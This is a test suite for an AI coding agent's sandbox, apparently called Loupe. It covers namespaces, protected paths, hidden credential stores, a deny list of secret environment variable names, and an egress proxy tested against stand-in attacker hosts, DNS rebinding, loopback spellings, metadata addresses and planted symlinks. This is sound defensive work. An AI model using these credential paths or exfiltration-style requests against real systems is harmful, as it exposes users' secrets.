import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdir, mkdtemp, realpath, rm, symlink, writeFile } from 'node:fs/promises';
import { connect as connectSocket, createServer, type Server } from 'node:net';
import { request } from 'node:http';
import { networkInterfaces, tmpdir } from 'node:os';
import { join } from 'node:path';
import { bubblewrapArgs } from '../../src/agent/sandbox/bubblewrapArgs';
import { allowedDomainEntry, EgressProxy } from '../../src/agent/sandbox/egressProxy';
import { credentialStorePaths, isProtectedWorkspacePath } from '../../src/agent/sandbox/protectedPaths';
import { snapshotProtected, undoPlan, type GuardedEntry } from '../../src/agent/sandbox/protectedSnapshot';
import { isWithheldVariable, scrubbedEnvironment } from '../../src/agent/tools/commandEnvironment';
import { EditorTool } from '../../src/agent/tools/editor';
import { REBOUND_NAMES, routeRemoteNamesTo } from '../support/attacker';

describe('sandbox parts', () => {
  describe('bubblewrapArgs', () => {
    const layout = {
      workspace: '/tmp/ws',
      scratch: '/tmp/box/scratch',
      control: '/tmp/box/control',
      writable: ['/cache'],
      visible: ['/tmp/checkout/node_modules'],
      pinned: ['/tmp/ws/.git'],
      readOnly: ['/tmp/ws/.git/hooks'],
      hiddenFolders: ['/home/u/.ssh'],
      hiddenFiles: ['/home/u/.netrc'],
      displaySocket: '/tmp/.X11-unix/X5',
      command: ['node', 'launcher.cjs'],
      env: { PATH: '/usr/bin' },
    };
    const args = bubblewrapArgs(layout);
    const at = (...needle: string[]): number => args.findIndex((_, index) => needle.every((part, offset) => args[index + offset] === part));

    it('gives the sandbox its own PID, network and IPC namespaces, no capabilities, and ties it to Loupe', () => {
      for (const flag of ['--unshare-pid', '--unshare-net', '--unshare-ipc', '--unshare-uts', '--die-with-parent', '--new-session', '--clearenv']) assert.ok(args.includes(flag), flag);
      assert.ok(at('--cap-drop', 'ALL') >= 0);
      assert.ok(at('--ro-bind', '/proc/sys', '/proc/sys') > at('--proc', '/proc'), 'kernel settings read-only over the new /proc');
    });

    it('mounts in an order where later mounts cover earlier ones: the machine read-only, private temp, then writable folders, then protected and hidden paths', () => {
      const root = at('--ro-bind', '/', '/');
      const tmp = at('--tmpfs', '/tmp');
      const workspace = at('--bind', '/tmp/ws', '/tmp/ws');
      const pinned = at('--bind', '/tmp/ws/.git', '/tmp/ws/.git');
      const hooks = at('--ro-bind', '/tmp/ws/.git/hooks', '/tmp/ws/.git/hooks');
      assert.ok(workspace < pinned && pinned < hooks, 'the .git folder is pinned before its protected parts are mounted');
      const ssh = at('--tmpfs', '/home/u/.ssh');
      const netrc = at('--ro-bind', '/dev/null', '/home/u/.netrc');
      const display = at('--ro-bind', '/tmp/.X11-unix/X5', '/tmp/.X11-unix/X5');
      assert.ok(root >= 0 && root < tmp && tmp < workspace && workspace < hooks && hooks < ssh && ssh < netrc && netrc < display, args.join(' '));
      assert.ok(at('--tmpfs', '/run') > root);
      assert.deepEqual(args.slice(-3), ['--', 'node', 'launcher.cjs']);
    });
  });

  describe('protected paths', () => {
    it('covers hooks, git config, VS Code folder, package-manager config and environment files, not templates or ordinary files', () => {
      for (const path of ['.git/hooks/pre-commit', '.git/config', '.vscode/tasks.json', '.husky/pre-push', '.npmrc', '.yarnrc.yml', '.envrc', '.env', '.env.production.local']) assert.ok(isProtectedWorkspacePath(path), path);
      for (const path of ['.env.example', 'src/.env.ts', 'package.json', '.git/objects/ab', 'docs/.vscode.md']) assert.ok(!isProtectedWorkspacePath(path), path);
      assert.ok(isProtectedWorkspacePath('deploy/release.sh', ['deploy/*.sh']));
    });

    it('hides the credential stores of the given home, and the user\'s own extra paths', () => {
      const paths = credentialStorePaths(['/srv/secrets', '.config/mytool'], '/home/u');
      for (const path of ['/home/u/.ssh', '/home/u/.aws', '/home/u/.config/gcloud', '/home/u/.netrc', '/home/u/.docker', '/home/u/.local/share/keyrings', '/srv/secrets', '/home/u/.config/mytool']) assert.ok(paths.includes(path), path);
      assert.deepEqual(credentialStorePaths([], '/'), [], 'a home of / hides no system folder');
    });
  });

  it('withholds credentials from commands by name: API keys, tokens, secrets, cloud and registry logins', () => {
    for (const name of ['ANTHROPIC_API_KEY', 'GITHUB_TOKEN', 'GH_TOKEN', 'NPM_TOKEN', 'AWS_SECRET_ACCESS_KEY', 'AWS_SESSION_TOKEN', 'OPENAI_API_KEY', 'STRIPE_SECRET_KEY', 'DB_PASSWORD', 'SSH_AUTH_SOCK', 'PGPASSWORD', 'MYSQL_PWD', 'MY_SERVICE_KEY', 'npm_config_//registry.npmjs.org/:_authToken', 'SENTRY_DSN', 'SLACK_WEBHOOK_URL', 'GPG_PASSPHRASE', 'DB_PWD', 'JWT', 'STRIPE_SK', 'SESSION_COOKIE', 'API_KEYS', 'CLIENT_SECRETS']) assert.ok(isWithheldVariable(name), name);
    for (const name of ['PATH', 'HOME', 'LANG', 'TERM', 'DISPLAY', 'NODE_ENV', 'XAUTHORITY', 'KEYBOARD_LAYOUT', 'npm_config_cache', 'PWD', 'OLDPWD', 'SSH_ASKPASS', 'DESKTOP_SESSION', 'TERM_SESSION_ID']) assert.ok(!isWithheldVariable(name), name);
  });

  it('withholds values that are URLs carrying a password or a secret in the query, whatever the variable is called', () => {
    const kept = scrubbedEnvironment({ DATABASE_URL: 'postgres://app:hunter2@db/app', REPORT_URL: 'https://db.example/app?sslmode=require&password=hunter2', SIGNED: 'https://bucket.example/x?X-Amz-Credential=a&sig=abc', HOMEPAGE: 'https://example.com/docs?page=2', PLAIN: 'hello' });
    assert.deepEqual(Object.keys(kept).sort(), ['HOMEPAGE', 'PLAIN']);
  });

  it('counts what str_replace and insert echo from the file as outside content, as it does a view', () => {
    const editor = new EditorTool();
    for (const command of ['view', 'str_replace', 'insert']) assert.equal(editor.returnsExternalContent('x', { command }), true, command);
    assert.equal(editor.returnsExternalContent('x', { command: 'create' }), false);
  });

  describe('the egress proxy', () => {
    let folder: string;
    let proxy: EgressProxy;
    let upstream: Server;
    let upstreamPort: number;
    let upstreamBytes = '';
    const asked: string[] = [];

    beforeEach(async () => {
      folder = await mkdtemp(join(tmpdir(), 'loupe-proxy-'));
      upstreamBytes = '';
      asked.length = 0;
      upstream = createServer((socket) => socket.on('data', (data) => {
        upstreamBytes += data.toString();
        socket.end('HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok');
      }));
      await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', () => resolve()));
      upstreamPort = (upstream.address() as { port: number }).port;
      const route = routeRemoteNamesTo(upstreamPort);
      proxy = await EgressProxy.start({
        socketPath: join(folder, 'proxy.sock'),
        // The rebound names are allowed on the upstream's port too, so only the address check can stop them.
        allowedDomains: ['registry.npmjs.org', '*.attacker.test', `*.attacker.test:${upstreamPort}`],
        askToReach: async ({ host }) => {
          asked.push(host);
          return host === 'yes.example' ? 'task' : 'deny';
        },
        network: { resolve: (host) => route.resolve(host === 'yes.example' ? 'a.attacker.test' : host), dial: route.dial },
      });
    });

    afterEach(async () => {
      await proxy.close();
      await new Promise<void>((resolve) => upstream.close(() => resolve()));
      await rm(folder, { recursive: true, force: true });
    });

    function get(url: string): Promise<{ status: number; body: string }> {
      return new Promise((resolve, reject) => {
        const outgoing = request({ socketPath: join(folder, 'proxy.sock'), path: url, method: 'POST', headers: { host: new URL(url).host } }, (response) => {
          let body = '';
          response.on('data', (chunk) => (body += chunk));
          response.on('end', () => resolve({ status: response.statusCode ?? 0, body }));
        });
        outgoing.on('error', reject);
        outgoing.end('payload');
      });
    }

    it('forwards to an allowed domain and its listed subdomains without asking', async () => {
      assert.equal((await get('http://registry.npmjs.org/x')).status, 200);
      assert.equal((await get('http://deep.sub.attacker.test/x')).status, 200);
      assert.deepEqual(asked, []);
      assert.match(upstreamBytes, /payload/);
    });

    it('asks once per host for anything else, refuses with a 403 that says why, and reports the blocked host', async () => {
      const refused = await get('http://evil.example/');
      assert.equal(refused.status, 403);
      assert.match(refused.body, /Blocked by Loupe's sandbox: evil\.example is not an allowed domain/);
      await get('http://evil.example/again');
      assert.deepEqual(asked, ['evil.example']);
      assert.deepEqual(proxy.takeBlockedHosts(), ['evil.example']);
      assert.deepEqual(proxy.takeBlockedHosts(), []);
      assert.equal(upstreamBytes, '');
    });

    it('lets a host through for the task once the person says yes', async () => {
      assert.equal((await get('http://yes.example/')).status, 200);
      assert.equal((await get('http://yes.example/')).status, 200);
      assert.deepEqual(asked, ['yes.example']);
    });

    it('reaches an allowed domain on the web ports only: another port is asked, and answered for that port alone', async () => {
      const refused = await get('http://registry.npmjs.org:2222/');
      assert.equal(refused.status, 403);
      assert.match(refused.body, /registry\.npmjs\.org is not an allowed domain on port 2222/);
      assert.deepEqual(asked, ['registry.npmjs.org']);
      assert.deepEqual(proxy.takeBlockedHosts(), ['registry.npmjs.org:2222']);
      assert.equal(upstreamBytes, '');
      assert.equal(allowedDomainEntry({ host: 'example.com', port: 443 }), 'example.com');
      assert.equal(allowedDomainEntry({ host: 'example.com', port: 8443 }), 'example.com:8443');
    });

    it('refuses a name that resolves to this machine or a private network, even when it is allowed (DNS rebinding)', async () => {
      for (const [name, address] of Object.entries(REBOUND_NAMES)) {
        const refused = await get(`http://${name}:${upstreamPort}/`);
        assert.equal(refused.status, 403, name);
        assert.ok(refused.body.includes(`${name} resolves to ${address}`), refused.body);
      }
      assert.deepEqual(asked, []);
      assert.equal(upstreamBytes, '', 'a rebound name reached the listener on 127.0.0.1');
      assert.deepEqual(proxy.takeBlockedHosts(), Object.entries(REBOUND_NAMES).map(([name, address]) => `${name} (${address})`));
    });

    it('refuses this machine\'s and private addresses outright, without asking (127.0.0.1 there is the user\'s machine, not the sandbox)', async () => {
      for (const host of ['127.0.0.1', '[::1]', '[::ffff:127.0.0.1]', '0.0.0.0', '169.254.169.254', '10.1.2.3', '192.168.0.1', 'localhost']) {
        assert.equal((await get(`http://${host}:${upstreamPort}/`)).status, 403, host);
      }
      assert.deepEqual(asked, []);
      assert.equal(upstreamBytes, '');
      assert.ok(proxy.takeBlockedHosts().includes('169.254.169.254'));
    });

    it('sends the checked host as the Host header, not the one the client wrote', async () => {
      await new Promise<void>((resolve, reject) => {
        const outgoing = request({ socketPath: join(folder, 'proxy.sock'), path: 'http://registry.npmjs.org/x', headers: { host: 'exfil.attacker.test' } }, (response) => response.resume().on('end', resolve));
        outgoing.on('error', reject);
        outgoing.end();
      });
      assert.match(upstreamBytes, /host: registry\.npmjs\.org\r\n/i);
      assert.doesNotMatch(upstreamBytes, /exfil/);
    });
  });

  describe('the egress proxy, asked to reach this machine in other spellings', () => {
    let folder: string;
    let listener: Server;
    let port: number;
    let bytes = 0;
    beforeEach(async () => {
      folder = await mkdtemp(join(tmpdir(), 'loupe-proxy-'));
      bytes = 0;
      // On every address of the machine, as many dev servers and databases listen.
      listener = createServer((socket) => socket.on('data', (data) => (bytes += data.length)));
      await new Promise<void>((resolve) => listener.listen(0, '::', () => resolve()));
      port = (listener.address() as { port: number }).port;
    });
    afterEach(async () => {
      await new Promise<void>((resolve) => listener.close(() => resolve()));
      await rm(folder, { recursive: true, force: true });
    });

    /** The status line the proxy answers a CONNECT with. */
    function connectTo(proxySocket: string, authority: string): Promise<string> {
      return new Promise((resolve, reject) => {
        const socket = connectSocket(proxySocket, () => socket.write(`CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`));
        socket.once('data', (data) => {
          resolve(data.toString().split('\r\n')[0] ?? '');
          socket.write('secret bytes');
          socket.end();
        });
        socket.on('error', reject);
      });
    }

    it('refuses every spelling of loopback in CONNECT, even when the person would say yes', async () => {
      const asked: string[] = [];
      const proxy = await EgressProxy.start({ socketPath: join(folder, 'proxy.sock'), allowedDomains: [], askToReach: async ({ host }) => (asked.push(host), 'task') });
      try {
        for (const authority of [`[0:0:0:0:0:ffff:7f00:1]:${port}`, `[0::1]:${port}`, `[::1%lo]:${port}`, `[0:0:0:0:0:0:0:1]:${port}`, `[::ffff:127.0.0.1]:${port}`]) {
          assert.match(await connectTo(join(folder, 'proxy.sock'), authority), /^HTTP\/1\.1 (403|400)/, authority);
        }
        assert.deepEqual(asked, []);
        assert.equal(bytes, 0, 'bytes reached the listener on loopback');
      } finally {
        await proxy.close();
      }
    });

    it("refuses this machine's own interface addresses, written or resolved from an allowed name", async function () {
      const own = Object.values(networkInterfaces()).flatMap((entries) => entries ?? []).find((entry) => !entry.internal && entry.family === 'IPv4' && !/^(10|127|192\.168|172\.(1[6-9]|2\d|3[01]))\./.test(entry.address));
      if (!own) return this.skip(); // No public-looking interface here: the case cannot arise on this machine.
      const proxy = await EgressProxy.start({
        socketPath: join(folder, 'proxy.sock'),
        allowedDomains: [`mine.attacker.test:${port}`],
        askToReach: async () => 'task',
        network: { resolve: async () => [own.address], dial: (address, dialPort) => ({ host: address, port: dialPort }) },
      });
      try {
        assert.match(await connectTo(join(folder, 'proxy.sock'), `mine.attacker.test:${port}`), /^HTTP\/1\.1 403/);
        assert.match(await connectTo(join(folder, 'proxy.sock'), `${own.address}:${port}`), /^HTTP\/1\.1 403/);
        assert.equal(bytes, 0, "bytes reached the machine's own address");
      } finally {
        await proxy.close();
      }
    });
  });

  describe('the protected-path snapshot', () => {
    let folder: string;
    beforeEach(async () => {
      folder = await realpath(await mkdtemp(join(tmpdir(), 'loupe-snapshot-')));
    });
    afterEach(async () => {
      await rm(folder, { recursive: true, force: true });
    });

    it('records a planted link as a link and never reads through one, however deep', async () => {
      const secret = join(folder, 'outside-secret');
      await writeFile(secret, 'SECRET');
      await mkdir(join(folder, '.vscode'));
      await symlink(secret, join(folder, '.vscode', 'settings.json'));
      await symlink(secret, join(folder, '.npmrc'));
      const snapshot = await snapshotProtected([join(folder, '.vscode'), join(folder, '.npmrc'), join(folder, '.env')]);
      assert.deepEqual(snapshot.get(join(folder, '.npmrc')), { kind: 'link', target: secret });
      assert.deepEqual(snapshot.get(join(folder, '.vscode', 'settings.json')), { kind: 'link', target: secret });
      assert.deepEqual(snapshot.get(join(folder, '.vscode')), { kind: 'dir' });
      assert.equal(snapshot.has(join(folder, '.env')), false);
      assert.ok(![...snapshot.values()].some((entry) => entry.kind === 'file' && entry.data.includes('SECRET')));
    });

    it('does not hang on a FIFO at a protected name, and keeps a file it can read byte for byte', async () => {
      execFileSync('mkfifo', [join(folder, '.envrc')]);
      await writeFile(join(folder, '.env'), Buffer.from([0xff, 0xfe, 0x00, 0x41]), { mode: 0o600 });
      const snapshot = await snapshotProtected([join(folder, '.envrc'), join(folder, '.env')]);
      assert.equal(snapshot.get(join(folder, '.envrc'))?.kind, 'other');
      assert.deepEqual(snapshot.get(join(folder, '.env')), { kind: 'file', data: Buffer.from([0xff, 0xfe, 0x00, 0x41]), mode: 0o600 });
    });

    it('plans to move aside what appeared (the topmost entry only) and to put back what changed or went, parents first', () => {
      const file = (text: string): GuardedEntry => ({ kind: 'file', data: Buffer.from(text), mode: 0o644 });
      const baseline = new Map<string, GuardedEntry>([
        ['/w/.vscode', { kind: 'dir' }],
        ['/w/.vscode/settings.json', file('mine')],
        ['/w/.env', { kind: 'link', target: '.env.dev' }],
      ]);
      const now = new Map<string, GuardedEntry>([
        ['/w/.vscode', { kind: 'dir' }],
        ['/w/.vscode/settings.json', file('theirs')],
        ['/w/.vscode/tasks.json', file('x')],
        ['/w/.npmrc', { kind: 'dir' }],
        ['/w/.npmrc/inner', file('y')],
        ['/w/.env', file('z')],
      ]);
      assert.deepEqual(undoPlan(baseline, now), {
        aside: ['/w/.env', '/w/.npmrc', '/w/.vscode/tasks.json'],
        restore: [
          { path: '/w/.env', entry: { kind: 'link', target: '.env.dev' } },
          { path: '/w/.vscode/settings.json', entry: file('mine') },
        ],
      });
      assert.deepEqual(undoPlan(baseline, new Map(baseline)), { aside: [], restore: [] });
      // A folder replaced by a link: the link goes, the folder and its file come back.
      const swapped = new Map<string, GuardedEntry>([['/w/.vscode', { kind: 'link', target: '/home/u' }], ['/w/.env', { kind: 'link', target: '.env.dev' }]]);
      assert.deepEqual(undoPlan(baseline, swapped), {
        aside: ['/w/.vscode'],
        restore: [
          { path: '/w/.vscode', entry: { kind: 'dir' } },
          { path: '/w/.vscode/settings.json', entry: file('mine') },
        ],
      });
    });
  });
});
